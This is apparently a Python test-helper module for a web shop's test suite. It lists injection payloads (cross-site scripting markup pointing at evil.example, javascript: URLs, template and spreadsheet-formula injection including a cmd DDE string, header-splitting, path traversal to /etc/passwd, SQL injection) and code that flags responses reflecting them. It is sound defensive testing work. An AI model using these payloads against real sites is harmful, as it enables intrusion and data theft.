"""Texts that somebody may write to break in, and what none of our answers may hold because of them.

What would be markup bears `evil`, so that it is known again wherever it became an element, an attribute or a header; what a template
would reckon comes to 36863.
"""

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser

from werkzeug.test import TestResponse

from core.domain.order_csv import FORMULA

RECKONED = "36863"  # 191 * 193
MARKUP = (
    "<script>evil()</script>", "<ScRiPt evil src=//evil.example/x.js>", "</script><script evil>1</script>", "<img src=x onerror=evil()>",
    "<svg/onload=evil()>", "<svg><script evil>1</script></svg>", "<math><mi evil xlink:href=javascript:evil()>x</mi></math>",
    "<iframe evil srcdoc='<b>x'></iframe>", "<a evil href=javascript:evil()>x</a>", "<base evil href=//evil.example/>",
    "<meta evil http-equiv=refresh content=0;url=//evil.example>", "<form evil action=//evil.example><input name=password>",
    "<link evil rel=stylesheet href=//evil.example>", "<style evil>*{display:none}</style>", "<details evil open ontoggle=evil()>",
    "</title><evil>", "</textarea><evil>", "</select></option><evil>", "</template><evil>", "--><evil>", "]]><evil>",
    "\" evil=\"1\" onfocus=\"evil()\" autofocus=\"", "' evil='1' onmouseover='evil()", "` evil=1 onload=evil() ", "x evil=1 onclick=evil()",
    "\"><evil>",
    "'><evil>", "<%00script evil>", "<evil hx-get=/logout hx-trigger=load>",
)  # fmt: skip
ADDRESSES = (
    "javascript:evil()",
    "JaVaScRiPt:evil()",
    " javascript:evil()",
    "data:text/html,<evil>",
    "vbscript:evil",
    "//evil.example",
    "https://evil.example/",
)
TEMPLATES = ("{{191*193}}", "${191*193}", "#{191*193}", "<%= 191*193 %>", "{% evil %}", "%(evil)s", "{0.__class__}", "%s%s%n")
SHEETS = (
    "=191*193", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", " =1+1",
    "'=1+1", '";=1+1;"', "x,=1+1", "x\r\n=1+1",
)  # fmt: skip
LINES = ("x\r\nX-Evil: 1", "x\r\n\r\n<evil>", "x\nSet-Cookie: evil=1", "x%0d%0aX-Evil:%201", "x\u2028X-Evil: 1", "x\x85y")
LETTERS = (
    "<!--<evil>", "&lt;evil&gt;&#60;evil&#62;", "\\u003cevil\\u003e", "＜evil＞",
    "nul\0l", "\u202emirror", "a\u2066b\u2069", "zero\u200bwidth\ufeff", "Z̸̢͎a̵l̴g̶o" * 4, "𝕏😀👩‍👩‍👧", "W" * 3000,
    "../../etc/passwd", "' or 1=1--",
    '"; drop table orders;--', "%", "_", "\\", "\x1b[31mred", "\ufffe\uffff", "", " ",
)  # fmt: skip
LONE = "half \ud800 of a pair"  # JSON can carry it, UTF-8 cannot
TEXTS = (*MARKUP, *ADDRESSES, *TEMPLATES, *SHEETS, *LINES, *LETTERS)

OURS = re.compile(
    r"(?:/(?![/\\])|\?|#|$|https://hub\.example/|https?://sim\.test/|https://[\w-]+\.myshopify\.com/|https://[\w.-]+\.(?:amazon|ebay)\.|mailto:|data:image/)"
)
LOADED = ("src", "href", "action", "formaction", "xlink:href", "data", "poster", "hx-get", "hx-post", "hx-put", "hx-delete", "srcset")
NOT_OURS = {"iframe", "object", "embed", "base", "style", "math", "marquee", "evil", "applet", "frame"}


class Page(HTMLParser):
    """What a browser would make of a page: what is wrong in it, where its links lead, its forms with their fields."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.forms: list[dict[str, str]] = []
        self.fields: list[list[tuple[str, str, str]]] = []  # name, kind, value
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        self.wrong += [f"<{tag} {' '.join(said)}>"[:150] for _ in range(self._is_wrong(tag, said))]
        self.links += [said[name] for name in ("href", "hx-get") if said.get(name, "")[:1] in ("/", "?") and tag != "link"]
        if tag == "form":
            self.forms.append(said)
            self.fields.append([])
        if tag in ("input", "textarea", "select", "button") and self.forms and said.get("name"):
            self.fields[-1].append((said["name"], said.get("type", "text") if tag == "input" else tag, said.get("value", "")))
        if tag == "option" and self.fields and self.fields[-1] and self.fields[-1][-1][1] == "select" and said.get("value"):
            self.fields[-1][-1] = (self.fields[-1][-1][0], "chosen", said["value"])

    def _is_wrong(self, tag: str, said: dict[str, str]) -> bool:
        made = tag in NOT_OURS or any("evil" in name or name.startswith("on") or name in ("style", "srcdoc") for name in said)
        leads = any(name in said and not OURS.match(said[name]) for name in LOADED)
        inline = (tag == "script" and not said.get("src")) or "http-equiv" in said
        return made or leads or inline

    def handle_comment(self, data: str) -> None:
        self.wrong += ["a comment"] if "evil" in data else []


def faults(answer: TestResponse) -> Iterator[str]:
    """What an answer holds that it must not."""
    if answer.status_code >= 500:
        yield str(answer.status_code)
    if any("evil" in name.lower() or (name == "Set-Cookie" and "evil" in value) for name, value in answer.headers):
        yield "a header"
    if answer.mimetype == "application/pdf":  # its letters are drawn: nothing in it is read as a page or a formula
        return
    if RECKONED in answer.text:
        yield "a template was reckoned"
    if answer.mimetype == "text/html":
        yield from Page(answer.text).wrong
    if answer.mimetype == "text/csv":
        yield from (f"the formula {cell!r}" for cell in formulas(answer.text))


def formulas(text: str) -> Iterator[str]:
    """Cells that a spreadsheet would reckon."""
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        yield from (cell[:50] for cell in row if FORMULA.match(cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell))
